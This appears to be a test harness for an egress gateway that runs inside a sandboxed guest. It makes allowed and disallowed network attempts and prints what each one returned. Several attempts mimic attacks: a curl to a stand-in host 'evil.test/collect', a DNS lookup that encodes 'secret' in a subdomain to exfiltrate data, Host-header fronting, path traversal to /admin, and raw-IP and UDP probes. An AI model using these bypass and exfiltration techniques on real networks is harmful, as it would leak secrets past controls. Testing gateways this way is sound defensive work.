"""Runs inside the guest. Makes each attempt with an ordinary client and prints one JSON line per
attempt, so that the host can lay what the guest saw beside what the upstream saw."""

import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request

TOKEN = os.environ["API_TOKEN"]
SSE = "https://a.test/sse?n=5&interval=400"
# A documentation address (RFC 5737): nobody's.
NOBODY = "198.51.100.7"


def say(attempt, **seen):
    print(json.dumps({"attempt": attempt, **seen}), flush=True)


def judged(status, body):
    """What an HTTP answer says: the gateway's own denials are JSON with a reason."""
    try:
        denial = json.loads(body)
    except ValueError:
        denial = None
    denial = denial if isinstance(denial, dict) else {}
    return {"status": status, "reason": denial.get("reason"), "id": denial.get("id")}


def curl(attempt, url, *options):
    # `-w` puts the status on a line of its own behind the body.
    run = subprocess.run(
        ["curl", "-sS", "--max-time", "20", "-H", "Accept: application/json",
         "-H", f"X-Attempt: {attempt}", "-w", "\n%{http_code}", *options, url],
        capture_output=True, text=True)
    body, _, status = run.stdout.rpartition("\n")
    if run.returncode == 0:
        say(attempt, **judged(int(status), body))
    else:
        say(attempt, status=None, outcome=run.stderr.strip())


def python(attempt, url):
    headers = {"X-Attempt": attempt, "Authorization": f"Bearer {TOKEN}"}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20) as answer:
            say(attempt, **judged(answer.status, answer.read()))
    except urllib.error.HTTPError as error:
        say(attempt, **judged(error.code, error.read()))
    except OSError as error:
        say(attempt, status=None, outcome=str(error))


def git(attempt, url):
    run = subprocess.run(
        ["git", "-c", f"http.extraHeader=X-Attempt: {attempt}", "clone", "--quiet", url, "/tmp/clone"],
        capture_output=True, text=True)
    say(attempt, status=200 if run.returncode == 0 else None,
        outcome=run.stderr.strip() or open("/tmp/clone/README").read().strip())


def resolve(attempt, name):
    try:
        say(attempt, status=None, outcome=f"resolved to {socket.gethostbyname(name)}", open=True)
    except OSError as error:
        say(attempt, status=None, outcome=error.strerror)


def tcp(attempt, host, port):
    try:
        socket.create_connection((host, port), timeout=10).close()
        say(attempt, status=None, outcome="connected", open=True)
    except OSError as error:
        say(attempt, status=None, outcome=error.strerror or str(error))


def udp(attempt, host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.settimeout(1)
        probe.connect((host, port))
        probe.send(b"\xc3 looks like QUIC")
        try:
            probe.recv(1500)
            say(attempt, status=None, outcome="answered", open=True)
        except OSError as error:
            say(attempt, status=None, outcome=error.strerror or str(error))


def events(attempt):
    # Nothing is timed here: the host notes when each line arrives.
    with subprocess.Popen(["curl", "-sSN", "-H", f"X-Attempt: {attempt}", SSE],
                          stdout=subprocess.PIPE, text=True) as stream:
        for line in stream.stdout:
            if line.startswith("data:"):
                print(json.dumps({"event": json.loads(line[5:])["event"]}), flush=True)
    say(attempt, status=200 if stream.returncode == 0 else None)


bearer = ("-H", f"Authorization: Bearer {TOKEN}")
curl("get", "https://a.test/v1/hello", *bearer)
python("get-python", "https://a.test/v1/hello")
git("clone", "https://b.test/git/demo.git")
curl("post", "https://a.test/v1/hello", *bearer, "-d", "x=1")
curl("path", "https://a.test/admin", *bearer)
curl("dot-segments", "https://a.test/v1/../admin", *bearer, "--path-as-is")
curl("fronting", "https://a.test/v1/hello", "-H", "Host: evil.test")
curl("other-host", "https://evil.test/collect")
curl("other-use", "https://b.test/git/demo.git/info/refs", *bearer)
curl("plain", "http://a.test/v1/hello")
curl("raw-ip", f"https://{NOBODY}/")
resolve("dns", f"{'c2VjcmV0' * 4}.evil.test")
udp("udp-443", NOBODY, 443)
tcp("tcp-5432", "a.test", 5432)
events("events")
sys.exit(0)
